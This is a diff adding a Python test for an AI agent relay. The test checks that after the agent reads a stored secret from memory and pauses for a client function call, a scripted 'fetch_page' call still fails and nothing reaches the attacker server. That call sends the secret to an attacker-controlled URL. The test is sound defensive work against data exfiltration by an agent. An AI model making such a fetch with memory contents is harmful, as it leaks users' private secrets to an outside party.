@@ -222,3 +222,46 @@ def test_auto_recall_frames_memories_as_quoted_data(
     assert note.startswith(f"- [{memory_id}, ")
     quoted = note.split("] ", 1)[1]
     assert json.loads(quoted) == forged  # the note is one JSON string: the memory, verbatim
+
+
+CLIENT_TOOL = {
+    "type": "function",
+    "function": {"name": "get_weather", "description": "Weather for a city.", "parameters": {"type": "object", "properties": {"city": {"type": "string"}}}},
+}
+
+
+def test_the_memory_read_survives_a_pause_for_a_client_function(
+    relay_factory: Callable[..., RunningServer], fake: FakeUpstream, attacker: LocalServer
+) -> None:
+    # Read memory, pause for the client's function, resume: the resumed run is
+    # the same run, and its fetch carrying the memory is still refused.
+    relay = make_relay(relay_factory)
+    save_memory(relay, SECRET)
+    fake.enqueue(
+        call("memory_search", query="bank PIN hint"),
+        Reply(tool_calls=[{"name": "get_weather", "arguments": {"city": "Oslo"}}]),
+    )
+    messages: list[dict[str, Any]] = [{"role": "user", "content": "What's the weather?"}]
+    first = httpx.post(
+        relay.url("/v1/chat/completions"),
+        json={"model": "agent/fake-model", "messages": messages, "tools": [CLIENT_TOOL]},
+        headers=HEADERS,
+        timeout=60,
+    ).json()["choices"][0]
+    assert first["finish_reason"] == "tool_calls"
+    paused = first["message"]
+    (client_call,) = paused["tool_calls"]
+    messages += [
+        {"role": "assistant", "content": None, "tool_calls": paused["tool_calls"]},
+        {"role": "tool", "tool_call_id": client_call["id"], "content": "sunny"},
+    ]
+    fake.enqueue(call("fetch_page", url=f"{attacker.url}/c?d={quote(SECRET)}"), Reply(content="done"))
+    resumed = httpx.post(
+        relay.url("/v1/chat/completions"),
+        json={"model": "agent/fake-model", "messages": messages, "tools": [CLIENT_TOOL]},
+        headers=HEADERS,
+        timeout=60,
+    ).json()["choices"][0]["message"]
+    (fetch,) = results_of(resumed, "fetch_page")
+    assert fetch["status"] == "error" and "(memory_search)" in fetch["summary"], fetch
+    assert attacker.hits == []
